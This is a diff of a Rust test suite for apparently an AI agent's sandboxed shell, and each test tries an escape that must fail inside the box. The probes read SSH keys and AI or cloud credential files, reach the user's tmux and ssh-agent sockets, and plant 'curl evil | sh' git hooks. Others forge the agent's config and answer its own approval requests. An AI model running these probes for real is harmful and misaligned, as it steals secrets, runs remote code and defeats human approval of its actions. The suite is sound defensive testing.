@@ -1,21 +1,20 @@
-//! The sandbox on the real kernel: the binary runs commands in a private home and workspace;
-//! what would escape the box must fail inside it, and everyday work must succeed.
+//! The sandbox on the real kernel (issues 15, 25): the binary runs commands in a private home
+//! and a workspace; every way out that a held-out suite found is tried here, class by class, and
+//! must fail inside the box, while everyday work succeeds.
 //!
-//! Each attack runs as a script (`sh probe.sh`), which the judge lets run because the box
-//! contains it: the test is of the box, not of the judge. Each is also run with the sandbox
-//! turned off, where it must succeed, so a test that cannot fail is caught. Each piece of work
-//! ends by trying to write home: it must have run inside the box.
+//! Each attack runs as a script (`sh probe.sh`, whitelisted), so the test is of the box, not of
+//! the judge. Each is also run with the sandbox turned off, where it must succeed, so a test
+//! that cannot fail is caught. Each piece of work ends by trying to write home: it must have
+//! run inside the box.
 //!
-//! Most run twice: as agentsh runs them here (namespaces and mounts carry the box, Landlock
-//! needs one rule per root), and with Landlock alone, as where the kernel refuses namespaces
-//! (the spec handed to agentsh's internal child with `landlock_only`).
-//!
-//! Tests that need Landlock skip with a printed reason where the kernel lacks it, or fail where
-//! `AGENTSH_REQUIRE_SANDBOX=1` (CI sets it: see .ci/run).
+//! Tests that need the box skip with a printed reason where the kernel cannot make it (no
+//! Landlock ABI 3, or no user namespaces), or fail where `AGENTSH_REQUIRE_SANDBOX=1` (CI sets
+//! it: see .ci/run).
 
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
+use std::time::Duration;
 use tempfile::TempDir;
 
 const BIN: &str = env!("CARGO_BIN_EXE_agentsh");
@@ -26,22 +25,9 @@ struct World {
     ws: TempDir,
     /// The user config's `sandbox` object.
     sandbox: serde_json::Value,
-    /// Landlock alone (see the top of this file).
-    landlock_only: bool,
 }
 
-/// A world in each mode, or none (with the reason printed) where the kernel cannot box.
-fn worlds() -> Vec<World> {
-    if !agentsh::run::sandbox::available() {
-        skip("this kernel has no Landlock ABI >= 3");
-        return Vec::new();
-    }
-    vec![world(false).unwrap(), world(true).unwrap()]
-}
-
-/// Where the private homes go: outside the temp directories, as a real home is. Cargo's
-/// target directory is used unless the checkout itself is in one (a clone in /tmp): then a home
-/// inside /tmp would make Landlock alone split /tmp, and nothing could be created in it.
+/// Where the private homes go: outside the temp directories, as a real home is.
 fn home_base() -> PathBuf {
     let temp = |p: &Path| {
         ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|t| p.starts_with(t)) || p.starts_with(std::env::temp_dir())
@@ -56,44 +42,29 @@ fn home_base() -> PathBuf {
         .expect("a HOME outside the temp directories")
 }
 
-/// A world as agentsh runs commands here, or `None` where the kernel cannot box.
-fn world(landlock_only: bool) -> Option<World> {
-    if !agentsh::run::sandbox::available() {
-        skip("this kernel has no Landlock ABI >= 3");
+/// A world as agentsh runs commands here, or `None` (with the reason printed) where the kernel
+/// cannot make the box.
+fn world() -> Option<World> {
+    let support = agentsh::run::sandbox::probe();
+    if !support.boxable() || support.namespaces != agentsh::run::sandbox::Namespaces::Available {
+        skip(&format!("this kernel cannot make the sandbox ({support:?})"));
         return None;
     }
     let home = tempfile::Builder::new().prefix(".agentsh-test-home").tempdir_in(home_base()).unwrap();
     let ws = tempfile::tempdir().unwrap();
-    let w = World { home, ws, sandbox: serde_json::json!({}), landlock_only };
+    let w = World { home, ws, sandbox: serde_json::json!({}) };
     for d in ["run", ".ssh", ".cache"] {
         std::fs::create_dir_all(w.home(d)).unwrap();
     }
     std::fs::set_permissions(w.home("run"), std::fs::Permissions::from_mode(0o700)).unwrap();
     w.write_home(".ssh/id_ed25519", "PRIVATE KEY\n");
-    w.write_home(".ssh/id_ed25519.pub", "ssh-ed25519 AAAA public\n");
     w.write_home(".bashrc", "# bashrc\n");
+    w.write_home(".gitconfig", "[user]\n\tname = Test\n\temail = test@example.com\n");
     w.config();
-    // Make agentsh's own files exist: one allowed command records one decision.
+    // agentsh's own files exist: one allowed command records one decision.
     let out = w.run("true");
     assert!(out.status.success(), "{}", text(&out.stderr));
     Some(w)
-}
-
-/// Whether user namespaces can be made here; says why a test does not run where not (`why`: what
-/// that means for it).
-/// [`world`] as agentsh runs commands here, where the kernel also allows the namespaces; `None`
-/// (with the reason printed) where either is missing.
-fn world_with_namespaces(why: &str) -> Option<World> {
-    let w = world(false)?;
-    namespaces(why).then_some(w)
-}
-
-fn namespaces(why: &str) -> bool {
-    let ok = agentsh::run::sandbox::probe_namespaces() == agentsh::run::sandbox::Namespaces::Available;
-    if !ok {
-        skip(&format!("user namespaces are not available here, {why}"));
-    }
-    ok
 }
 
 /// Says why a test does not run here; where CI requires the sandbox, fails instead.
@@ -102,6 +73,12 @@ fn skip(why: &str) {
         panic!("{why}, and AGENTSH_REQUIRE_SANDBOX=1");
     }
     eprintln!("skipped: {why}");
+}
+
+/// A name no other test or run uses, for places outside the test's own directories.
+fn unique(what: &str) -> String {
+    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+    format!("agentsh-test-{what}-{}-{}", std::process::id(), N.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
 }
 
 impl World {
@@ -117,7 +94,9 @@ impl World {
         std::fs::write(p, body).unwrap();
     }
     fn write_home(&self, rel: &str, body: &str) {
-        std::fs::write(self.home(rel), body).unwrap();
+        let p = self.home(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, body).unwrap();
     }
     /// The user config: the probe script whitelisted (so it also runs with the sandbox off,
     /// where the judge would ask), and this world's sandbox.
@@ -138,19 +117,26 @@ impl World {
     }
     /// A git repository with a commit, a hook directory and `.agents/`.
     fn git(self) -> World {
+        self.git_in(self.ws.path());
+        self.write("README", "hello\n");
+        self.write(".agents/terminal.json", "{}\n");
         let git = |args: &[&str]| {
             let s = Command::new("git").args(args).current_dir(self.ws.path()).output().unwrap();
+            assert!(s.status.success(), "git {args:?}: {}", text(&s.stderr));
+        };
+        git(&["add", "README"]);
+        git(&["commit", "-qm", "first"]);
+        self
+    }
+    fn git_in(&self, dir: &Path) {
+        let git = |args: &[&str]| {
+            let s = Command::new("git").args(args).current_dir(dir).output().unwrap();
             assert!(s.status.success(), "git {args:?}: {}", text(&s.stderr));
         };
         git(&["init", "-q", "."]);
         git(&["config", "user.name", "Test"]);
         git(&["config", "user.email", "test@example.com"]);
         git(&["config", "commit.gpgsign", "false"]);
-        self.write("README", "hello\n");
-        self.write(".agents/terminal.json", "{}\n");
-        git(&["add", "README"]);
-        git(&["commit", "-qm", "first"]);
-        self
     }
     fn command(&self, args: &[&str]) -> Command {
         let mut c = Command::new(BIN);
@@ -164,6 +150,7 @@ impl World {
             .env_remove("XDG_CACHE_HOME")
             .env_remove("AGENTSH_ASK")
             .env_remove("CARGO_TARGET_DIR")
+            .env_remove("TMPDIR")
             .stdin(Stdio::null())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped());
@@ -178,70 +165,10 @@ impl World {
     fn run(&self, cmd: &str) -> Output {
         self.command(&["-c", cmd]).output().unwrap()
     }
-    /// The mount namespace a command runs in (`mnt:[N]`): the same for commands that join kept
-    /// namespaces.
-    fn mount_ns(&self) -> String {
-        let out = self.script("readlink /proc/self/ns/mnt\n");
-        succeeded(&out, "readlink /proc/self/ns/mnt");
-        text(&out.stdout)
-    }
-    /// `sh probe.sh` with `body`: the judge lets it run, since the box contains it. With
-    /// Landlock alone, agentsh's internal child runs it in the box this test describes.
+    /// `sh probe.sh` with `body`: the judge lets it run (whitelisted), in the box.
     fn script(&self, body: &str) -> Output {
         self.write("probe.sh", body);
-        if !self.landlock_only {
-            return self.run("sh probe.sh");
-        }
-        self.internal(&[]).output().unwrap()
-    }
-    /// agentsh's internal child running `sh probe.sh` in this test's box, with Landlock alone;
-    /// `outputs`: terminals agentsh's output goes to.
-    fn internal(&self, outputs: &[PathBuf]) -> Command {
-        let mut spec = self.spec();
-        spec.outputs = outputs
-            .iter()
-            .map(|p| agentsh::run::sandbox::Root {
-                path: p.clone(),
-                from: agentsh::run::sandbox::Origin::Output,
-                source: None,
-            })
-            .collect();
-        let spec = serde_json::to_string(&spec).unwrap();
-        self.command(&[agentsh::model::NEW_SESSION_MARKER, "new", &spec, "sh", "probe.sh"])
-    }
-    /// The box the gate would set up here, with Landlock alone.
-    fn spec(&self) -> agentsh::run::sandbox::BoxSpec {
-        use agentsh::run::sandbox::{BoxSpec, Place, Settings, Workspace};
-        let real = |var: &str, default: &str| {
-            std::env::var_os(var)
-                .map(PathBuf::from)
-                .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(default)))
-        };
-        let place = Place {
-            cwd: self.ws.path().to_path_buf(),
-            workspace: Workspace::find(self.ws.path()),
-            home: Some(self.home.path().to_path_buf()),
-            cargo_home: real("CARGO_HOME", ".cargo"),
-            ..Place::default()
-        };
-        let config: serde_json::Value =
-            serde_json::from_str(&std::fs::read_to_string(self.home(".config/agentsh/config.json")).unwrap()).unwrap();
-        let mut settings = Settings::default();
-        for p in config["sandbox"]["denyRead"].as_array().into_iter().flatten() {
-            let path = p.as_str().unwrap().to_string();
-            settings.deny_read.push(agentsh::policy::sandbox_settings::Sourced { path, source: "test".into() });
-        }
-        if config["sandbox"]["network"] == "off" {
-            settings.network = agentsh::run::sandbox::Network::Off;
-        }
-        let own: Vec<PathBuf> =
-            [".config/agentsh", ".local/share/agentsh", ".local/state/agentsh", ".cache/agentsh", "run/agentsh"]
-                .iter()
-                .map(|d| self.home(d))
-                .collect();
-        let mut spec = BoxSpec::build(&settings, &place, &own);
-        spec.landlock_only = true;
-        spec
+        self.run("sh probe.sh")
     }
     /// The same with the sandbox off: what the script does must work there.
     fn unboxed(&self, body: &str) -> Output {
@@ -254,6 +181,15 @@ impl World {
         let out = self.run("sh probe.sh");
         std::fs::write(dir.join("config.json"), on).unwrap();
         out
+    }
+    /// The mount namespace a command runs in (`mnt:[N]`): the same for commands in one kept box.
+    fn mount_ns(&self) -> String {
+        let out = self.script("readlink /proc/self/ns/mnt\n");
+        succeeded(&out, "readlink /proc/self/ns/mnt");
+        text(&out.stdout)
+    }
+    fn records(&self) -> PathBuf {
+        self.home(".local/state/agentsh/box")
     }
 }
 
@@ -271,13 +207,19 @@ fn refused_by_box(out: &Output, what: &str) {
         "{what}: the judge, not the box: {err}"
     );
     assert!(
-        // EBUSY: git replaces its config by renaming onto it, and a bind mount cannot be.
+        // EBUSY: a mount cannot be renamed, removed or renamed over.
         [
             "Permission denied",
             "Read-only file system",
             "Operation not permitted",
             "No such file",
-            "Device or resource busy"
+            "Device or resource busy",
+            "not found",
+            "No such process",
+            "Connection refused",
+            "error connecting",
+            "Network is unreachable",
+            "nonexistent",
         ]
         .iter()
         .any(|m| err.contains(m)),
@@ -301,293 +243,410 @@ fn attack(w: &World, what: &str, body: &str) {
     succeeded(&w.unboxed(body), &format!("{what} (without the sandbox)"));
 }
 
-/// Appended to every piece of work: proof that it ran inside the box.
-const INSIDE: &str = "\nif touch ~/escaped 2>/dev/null; then echo 'ran outside the box' >&2; exit 99; fi\n";
+/// Appended to every piece of work: proof that it ran inside the box (home's real files are not
+/// there to change; the private home is).
+const INSIDE: &str =
+    "\nif [ -e ~/.bashrc ]; then echo 'ran outside the box: the real home is in sight' >&2; exit 99; fi\n";
+
+fn python() -> &'static str {
+    if Path::new("/usr/bin/python3").exists() { "/usr/bin/python3" } else { "python3" }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Home: private, with the person's files out of sight
 
 #[test]
-fn home_is_read_only() {
-    for w in worlds() {
-        attack(&w, "touch ~/x", "set -e\ntouch ~/x\n");
-        attack(&w, "echo x >> ~/.bashrc", "set -e\necho x >> ~/.bashrc\n");
-        assert_eq!(std::fs::read_to_string(w.home(".bashrc")).unwrap(), "# bashrc\nx\n", "only the unboxed run wrote");
-        // Reading home still works.
-        succeeded(&w.script("set -e\ncat ~/.bashrc >/dev/null\nls ~ >/dev/null\n"), "reading home");
+fn home_is_private_and_its_files_out_of_sight() {
+    let Some(w) = world() else { return };
+    // The real files are not there: written or read, the box has its own home.
+    attack(&w, "cat ~/.bashrc", "set -e\ncat ~/.bashrc\n");
+    succeeded(&w.script("set -e\necho x >> ~/.bashrc\n"), "write the box's own ~/.bashrc");
+    assert_eq!(std::fs::read_to_string(w.home(".bashrc")).unwrap(), "# bashrc\n", "the person's .bashrc is unchanged");
+    // git still knows its author (~/.gitconfig is shown, read-only).
+    let out = w.script("set -e\ngit config user.name\n");
+    succeeded(&out, "git config user.name");
+    assert_eq!(text(&out.stdout), "Test\n");
+    refused_by_box(&w.script("set -e\necho x >> ~/.gitconfig\n"), "write ~/.gitconfig");
+}
+
+/// Secrets not on any list (issue 25): nothing of home is in the box but what is named to be.
+#[test]
+fn secrets_whatever_their_name_are_out_of_sight() {
+    let Some(w) = world() else { return };
+    for f in [
+        ".ssh/id_ed25519",
+        ".claude/.credentials.json",
+        ".codex/auth.json",
+        ".gemini/oauth_creds.json",
+        ".config/rclone/rclone.conf",
+        ".s3cfg",
+        ".terraform.d/credentials.tfrc.json",
+        ".docker/config.json",
+        ".config/git/credentials",
+        ".cache/huggingface/token",
+        ".kaggle/kaggle.json",
+        ".m2/settings.xml",
+        ".gem/credentials",
+        ".yarnrc.yml",
+        ".config/pip/pip.conf",
+        ".bash_history",
+        ".python_history",
+        "notes-with-a-new-name.txt",
+    ] {
+        w.write_home(f, "SECRET\n");
+        attack(&w, &format!("cat ~/{f}"), &format!("set -e\ncat ~/{f}\n"));
     }
+    // Made after the box was: still out of sight (a running box's view holds nothing of home's
+    // but what it names).
+    let first = w.mount_ns();
+    w.write_home(".aws/credentials", "[default]\nSECRET\n");
+    refused_by_box(&w.script("set -e\ncat ~/.aws/credentials\n"), "a credential made since");
+    assert_eq!(w.mount_ns(), first, "a new file in home needs no new box");
 }
 
 #[test]
-fn private_keys_are_unreadable_and_public_keys_readable() {
-    for w in worlds() {
-        attack(&w, "cat ~/.ssh/id_ed25519", "set -e\ncat ~/.ssh/id_ed25519\n");
-        let out = w.script("set -e\ncat ~/.ssh/id_ed25519.pub\n");
-        succeeded(&out, "cat ~/.ssh/id_ed25519.pub");
-        assert_eq!(text(&out.stdout), "ssh-ed25519 AAAA public\n");
-        // Other credential stores, and what the person adds to sandbox.denyRead.
-        std::fs::create_dir_all(w.home(".aws")).unwrap();
-        w.write_home(".aws/credentials", "[default]\n");
-        w.write_home(".netrc", "machine x password y\n");
-        w.write_home("notes.txt", "mine\n");
-        let w = w.sandbox(serde_json::json!({"denyRead": ["~/notes.txt"]}));
-        for f in [".aws/credentials", ".netrc", "notes.txt"] {
-            attack(&w, &format!("cat ~/{f}"), &format!("set -e\ncat ~/{f}\n"));
-        }
-    }
+fn the_environment_is_scrubbed_of_secrets_and_sockets() {
+    let Some(w) = world() else { return };
+    let mut c = w.command(&["-c", "sh probe.sh"]);
+    w.write("probe.sh", "env\n");
+    c.env("ANTHROPIC_API_KEY", "sk-SECRET")
+        .env("GITHUB_TOKEN", "ghp_SECRET")
+        .env("AWS_SECRET_ACCESS_KEY", "SECRET")
+        .env("DB_PASSWORD", "SECRET")
+        .env("SSH_AUTH_SOCK", "/tmp/ssh-x/agent.1")
+        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/bus")
+        .env("TMUX", "/tmp/tmux-0/default,1,0")
+        .env("KEEP_ME", "visible");
+    let out = c.output().unwrap();
+    succeeded(&out, "env");
+    let env = text(&out.stdout);
+    assert!(!env.contains("SECRET") && !env.contains("SSH_AUTH_SOCK") && !env.contains("TMUX="), "{env}");
+    assert!(!env.contains("DBUS_SESSION_BUS_ADDRESS"), "{env}");
+    assert!(env.contains("KEEP_ME=visible"), "{env}");
+    // What the person passes by name gets through.
+    let w = w.sandbox(serde_json::json!({"passEnv": ["GITHUB_TOKEN"]}));
+    let out = w.command(&["-c", "sh probe.sh"]).env("GITHUB_TOKEN", "ghp_PASSED").output().unwrap();
+    assert!(text(&out.stdout).contains("GITHUB_TOKEN=ghp_PASSED"), "{}", text(&out.stdout));
 }
 
 #[test]
 fn agentsh_own_files_are_neither_readable_nor_writable() {
-    for w in worlds() {
-        // A pending request and a trust record, as agentsh leaves them.
-        let queue = w.home("run/agentsh");
-        std::fs::create_dir_all(&queue).unwrap();
-        std::fs::set_permissions(&queue, std::fs::Permissions::from_mode(0o700)).unwrap();
-        std::fs::write(queue.join("0123456789ab.json"), "{\"code\": \"1234\"}").unwrap();
-        std::fs::create_dir_all(w.home(".local/share/agentsh")).unwrap();
-        w.write_home(".local/share/agentsh/trust.json", "{}");
-        assert!(w.home(".local/state/agentsh/audit.jsonl").exists());
-        for (what, body) in [
-            ("read the config", "cat ~/.config/agentsh/config.json"),
-            ("write the config", "echo '{}' > ~/.config/agentsh/config.json"),
-            ("read the trust records", "cat ~/.local/share/agentsh/trust.json"),
-            ("forge a trust record", "echo '{}' > ~/.local/share/agentsh/trust.json"),
-            ("read the audit log", "cat ~/.local/state/agentsh/audit.jsonl"),
-            ("truncate the audit log", ": > ~/.local/state/agentsh/audit.jsonl"),
-            ("read a request and its code", "cat ~/run/agentsh/0123456789ab.json"),
-            ("answer a request", "echo '{\"answer\": \"approve\"}' > ~/run/agentsh/0123456789ab.answer"),
-        ] {
-            let out = w.script(&format!("set -e\n{body}\n"));
-            refused_by_box(&out, what);
+    let Some(w) = world() else { return };
+    let queue = w.home("run/agentsh");
+    std::fs::create_dir_all(&queue).unwrap();
+    std::fs::set_permissions(&queue, std::fs::Permissions::from_mode(0o700)).unwrap();
+    std::fs::write(queue.join("0123456789ab.json"), "{\"code\": \"1234\"}").unwrap();
+    w.write_home(".local/share/agentsh/trust.json", "{}");
+    assert!(w.home(".local/state/agentsh/audit.jsonl").exists());
+    for (what, body) in [
+        ("read the config", "cat ~/.config/agentsh/config.json"),
+        ("read the trust records", "cat ~/.local/share/agentsh/trust.json"),
+        ("read the audit log", "cat ~/.local/state/agentsh/audit.jsonl"),
+        ("read a request and its code", "cat ~/run/agentsh/0123456789ab.json"),
+        ("read the box's records", "ls ~/.local/state/agentsh/box/"),
+    ] {
+        attack(&w, what, &format!("set -e\n{body}\n"));
+    }
+    // Written in the box, they land in the box's own home: agentsh never reads them.
+    succeeded(&w.script("set -e\nmkdir -p ~/.config/agentsh\necho '{\"commandWhitelist\": [\"rm\"]}' > ~/.config/agentsh/config.json\n"), "forge a config");
+    let real = std::fs::read_to_string(w.home(".config/agentsh/config.json")).unwrap();
+    assert!(!real.contains("\"rm\""), "{real}");
+    refused_by_box(
+        &w.script("set -e\necho '{\"answer\": \"approve\"}' > ~/run/agentsh/0123456789ab.answer\n"),
+        "answer a request",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Sockets, temporary places, caches
+
+/// A unix socket server outside, listening at `path`: answers `hello` to each connection.
+fn serve_unix(path: &Path) -> std::thread::JoinHandle<()> {
+    use std::io::Write;
+    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    std::thread::spawn(move || {
+        let until = std::time::Instant::now() + Duration::from_secs(60);
+        while std::time::Instant::now() < until {
+            match listener.accept() {
+                Ok((mut s, _)) => {
+                    let _ = s.write_all(b"hello\n");
+                }
+                Err(_) => std::thread::sleep(Duration::from_millis(20)),
+            }
         }
-        // The same without the box (last: it rewrites the config).
-        succeeded(
-            &w.unboxed("set -e\ncat ~/run/agentsh/0123456789ab.json ~/.local/share/agentsh/trust.json\n"),
-            "unboxed",
+    })
+}
+
+/// Path sockets (issue 25): the person's tmux server, ssh-agent, D-Bus and docker all listen in
+/// `/tmp`, `$XDG_RUNTIME_DIR` or `/run`, which the box has its own of.
+#[test]
+fn the_persons_path_sockets_are_out_of_reach() {
+    let Some(w) = world() else { return };
+    let dir = Path::new("/tmp").join(unique("sockets"));
+    std::fs::create_dir_all(&dir).unwrap();
+    let in_tmp = dir.join("docker.sock");
+    let in_runtime = w.home("run/bus");
+    let _a = serve_unix(&in_tmp);
+    let _b = serve_unix(&in_runtime);
+    for sock in [&in_tmp, &in_runtime] {
+        let connect = format!(
+            "set -e\n{} -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\"); print(s.recv(6))'\n",
+            python(),
+            sock.display()
         );
+        attack(&w, &format!("connect to {}", sock.display()), &connect);
+        // Behind a link with another name, as issue 25's docker socket was.
+        let link = format!(
+            "set -e\nln -s {} ./d.sock\ncurl -s --unix-socket ./d.sock http://x/ || {{ echo 'error connecting' >&2; exit 1; }}\n",
+            sock.display()
+        );
+        refused_by_box(&w.script(&link), "connect through a link");
+        let _ = std::fs::remove_file(w.path("d.sock"));
     }
+    // The real tmux: `send-keys` would type into the person's shell.
+    if Command::new("tmux").arg("-V").output().is_ok() {
+        let tsock = dir.join("tmux.sock");
+        let started = Command::new("tmux")
+            .args(["-S", tsock.to_str().unwrap(), "new-session", "-d", "-s", "victim", "sleep 60"])
+            .status();
+        if started.is_ok_and(|s| s.success()) {
+            let body = format!("set -e\ntmux -S {} send-keys -t victim 'echo pwned' Enter\n", tsock.display());
+            attack(&w, "tmux send-keys to the person's server", &body);
+            let _ = Command::new("tmux").args(["-S", tsock.to_str().unwrap(), "kill-server"]).status();
+        }
+    }
+    // The real ssh-agent: `ssh-add -D` would delete the person's keys.
+    if let Ok(agent) = Command::new("ssh-agent").args(["-a", dir.join("agent.sock").to_str().unwrap()]).output()
+        && agent.status.success()
+    {
+        let body = format!("set -e\nSSH_AUTH_SOCK={} ssh-add -l\n", dir.join("agent.sock").display());
+        let out = w.script(&body);
+        assert!(!out.status.success() && text(&out.stderr).contains("Error connecting"), "{}", text(&out.stderr));
+        let pid =
+            text(&agent.stdout).split("SSH_AGENT_PID=").nth(1).and_then(|r| r.split(';').next()).map(str::to_string);
+        if let Some(pid) = pid {
+            let _ = Command::new("kill").arg(pid).status();
+        }
+    }
+    let _ = std::fs::remove_dir_all(&dir);
 }
 
+/// Shared temporary places (issue 25): a file planted in the box's `/tmp` (a link to `~/.bashrc`
+/// for a later write of the person's) never reaches the real one, nor the other way.
 #[test]
-fn signals_cannot_reach_outside_the_box() {
-    for w in worlds() {
-        let mut outside = Command::new("sleep").arg("30").spawn().unwrap();
-        let pid = outside.id();
-        let out = w.script(&format!("set -e\nkill -TERM {pid}\n"));
-        refused_by_box(&out, "kill of a process started outside");
-        assert!(outside.try_wait().unwrap().is_none(), "the process outside was killed");
-        // Its own children it may signal.
-        succeeded(&w.script("set -e\nsleep 30 &\nkill $!\n"), "kill of its own child");
-        succeeded(&w.unboxed(&format!("set -e\nkill -TERM {pid}\n")), "kill without the sandbox");
-        let _ = outside.wait();
+fn temporary_places_are_the_boxs_own() {
+    let Some(w) = world() else { return };
+    let name = unique("tmp");
+    for t in ["/tmp", "/var/tmp", "/dev/shm"] {
+        let real = Path::new(t).join(&name);
+        std::fs::write(&real, "the person's\n").unwrap();
+        attack(&w, &format!("read {}", real.display()), &format!("set -e\ncat {}\n", real.display()));
+        std::fs::remove_file(&real).unwrap();
+        // Planted in the box: not outside.
+        let body = format!("set -e\nln -s {} {}\n", w.home(".bashrc").display(), real.display());
+        succeeded(&w.script(&body), "plant a link in the box's temp");
+        assert!(std::fs::symlink_metadata(&real).is_err(), "{} reached the real {t}", real.display());
     }
+    // The box's own /tmp lasts between its commands.
+    succeeded(&w.script(&format!("set -e\necho kept > /tmp/{name}\n")), "write /tmp");
+    let out = w.script(&format!("set -e\ncat /tmp/{name}\n"));
+    succeeded(&out, "read it back in the next command");
+    assert_eq!(text(&out.stdout), "kept\n");
 }
 
+/// Caches that later run code outside the box (issue 25): the box reads the person's caches and
+/// writes its own copy; the person's next unconfined build never sees what the box wrote.
 #[test]
-fn code_paths_of_the_workspace_are_read_only() {
-    let Some(w) = world_with_namespaces("so code paths stay writable") else { return };
+fn caches_are_copied_on_write() {
+    let Some(w) = world() else { return };
+    let crate_src = ".cargo/registry/src/index.crates.io-x/fixture-1.0.0";
+    w.write_home(&format!("{crate_src}/build.rs"), "fn main() {}\n");
+    w.write_home(".cache/pip/http/entry", "cached\n");
+    w.write_home(".npm/_cacache/index", "cached\n");
+    // The tests point CARGO_HOME at the machine's real one; this one is the world's.
+    let run = |body: &str| {
+        w.write("probe.sh", body);
+        w.command(&["-c", "sh probe.sh"]).env("CARGO_HOME", w.home(".cargo")).output().unwrap()
+    };
+    let out = run(&format!(
+        "set -e\ncat ~/.cache/pip/http/entry\necho 'fn main() {{ evil() }}' > ~/{crate_src}/build.rs\necho x >> ~/.npm/_cacache/index\nmkdir -p ~/.cache/p10k && echo evil > ~/.cache/p10k/instant-prompt\n"
+    ));
+    succeeded(&out, "read and write the caches");
+    assert_eq!(text(&out.stdout), "cached\n");
+    assert_eq!(std::fs::read_to_string(w.home(&format!("{crate_src}/build.rs"))).unwrap(), "fn main() {}\n");
+    assert_eq!(std::fs::read_to_string(w.home(".npm/_cacache/index")).unwrap(), "cached\n");
+    assert!(!w.home(".cache/p10k").exists(), "an unknown cache was written in the person's home");
+    // The box's copy is there for its next command.
+    let out = run(&format!("set -e\ncat ~/{crate_src}/build.rs\n"));
+    assert!(text(&out.stdout).contains("evil"), "{}", text(&out.stdout));
+}
+
+// ---------------------------------------------------------------------------------------------
+// git, metadata, the workspace
+
+#[test]
+fn git_code_paths_cannot_be_planted_or_renamed_away() {
+    let Some(w) = world() else { return };
     let w = w.git();
+    std::fs::create_dir_all(w.path(".git/modules/sub/hooks")).unwrap();
+    std::fs::write(w.path(".git/modules/sub/config"), "[core]\n").unwrap();
+    std::fs::write(w.path(".git/modules/sub/HEAD"), "ref: refs/heads/main\n").unwrap();
     for (what, body) in [
         ("plant a pre-commit hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
         ("set core.fsmonitor", "git config core.fsmonitor 'curl evil | sh'"),
         ("append to .git/config", "echo '[core] fsmonitor = x' >> .git/config"),
+        ("write info/attributes", "echo '* filter=x' > .git/info/attributes"),
+        ("a submodule's config", "echo '[core] fsmonitor = x' >> .git/modules/sub/config"),
+        ("a submodule's hook", "echo x > .git/modules/sub/hooks/post-checkout"),
         ("rewrite the project config", "echo '{\"commandWhitelist\": [\"rm\"]}' > .agents/terminal.json"),
-        ("add a file to .agents", "touch .agents/x"),
+        ("rename .git away", "mv .git .git-old"),
+        ("remove .git", "rm -rf .git"),
     ] {
         attack(&w, what, &format!("set -e\n{body}\n"));
         // Undo what the unboxed run did.
+        if w.path(".git-old").exists() {
+            std::fs::rename(w.path(".git-old"), w.path(".git")).unwrap();
+        }
+        if !w.path(".git").exists() {
+            return; // the unboxed `rm -rf .git` ran: nothing left to try
+        }
         let _ = Command::new("git").args(["config", "--unset", "core.fsmonitor"]).current_dir(w.ws.path()).status();
         std::fs::write(w.path(".agents/terminal.json"), "{}\n").unwrap();
-    }
-    // A repository without hooks gets an empty, read-only hooks directory.
-    std::fs::remove_dir_all(w.path(".git/hooks")).unwrap();
-    refused_by_box(&w.script("set -e\nmkdir -p .git/hooks && echo x > .git/hooks/pre-commit\n"), "create .git/hooks");
-    assert!(!w.path(".git/hooks/pre-commit").exists());
-}
-
-/// Each command's namespaces are kept for the next ones (run/kept.rs): a later command joins
-/// them while nothing their mounts were made from has changed, and gets new ones as soon as
-/// something has: a credential store or a private key made since, `.git/config` rewritten by
-/// the person's git (by rename, which detaches a mount on the old file).
-#[test]
-fn kept_namespaces_are_joined_only_while_what_they_cover_is_unchanged() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    let w = w.git();
-    let first = w.mount_ns();
-    assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
-    // Joined, a command is held by the ruleset the first one finished: the workspace is
-    // writable, home is not.
-    succeeded(&w.script("set -e\ntouch joined-file\n"), "touch in the workspace, joined");
-    assert!(w.path("joined-file").exists());
-    refused_by_box(&w.script("set -e\ntouch ~/joined\n"), "touch in home, joined");
-    // Another program saving a file in home (by rename, as editors do) changes nothing the box
-    // covers: still joined.
-    w.write_home(".viminfo.tmp", "x");
-    std::fs::rename(w.home(".viminfo.tmp"), w.home(".viminfo")).unwrap();
-    assert_eq!(w.mount_ns(), first, "a file saved in home makes no new namespaces");
-
-    std::fs::create_dir(w.home(".aws")).unwrap();
-    w.write_home(".aws/credentials", "SECRET\n");
-    refused_by_box(&w.script("set -e\ncat ~/.aws/credentials\n"), "a credential store made since");
-    let second = w.mount_ns();
-    assert_ne!(second, first, "new namespaces cover what appeared");
-
-    w.write_home(".ssh/id_rsa", "PRIVATE KEY\n");
-    refused_by_box(&w.script("set -e\ncat ~/.ssh/id_rsa\n"), "a private key made since");
-
-    let git = Command::new("git").args(["config", "test.key", "1"]).current_dir(w.ws.path()).status().unwrap();
-    assert!(git.success());
-    refused_by_box(&w.script("set -e\necho '[core] fsmonitor = x' >> .git/config\n"), "a .git/config replaced since");
-    assert!(!std::fs::read_to_string(w.path(".git/config")).unwrap().contains("fsmonitor"));
-}
-
-/// `.agents` directly in the workspace is vouched for through the workspace's own change time
-/// (run/kept.rs): one made by the person after the namespaces were kept is still bound
-/// read-only for the next command, in new namespaces.
-#[test]
-fn an_agents_directory_made_since_is_read_only_in_new_namespaces() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    let first = w.mount_ns();
-    assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
-    // A file saved in the workspace changes its entries, not `.agents`: still joined.
-    w.write("notes.txt", "x");
-    assert_eq!(w.mount_ns(), first, "a new file in the workspace makes no new namespaces");
-    std::fs::create_dir(w.path(".agents")).unwrap();
-    w.write(".agents/terminal.json", "{}\n");
-    refused_by_box(&w.script("set -e\necho '{}' > .agents/terminal.json\n"), "rewrite an .agents made since");
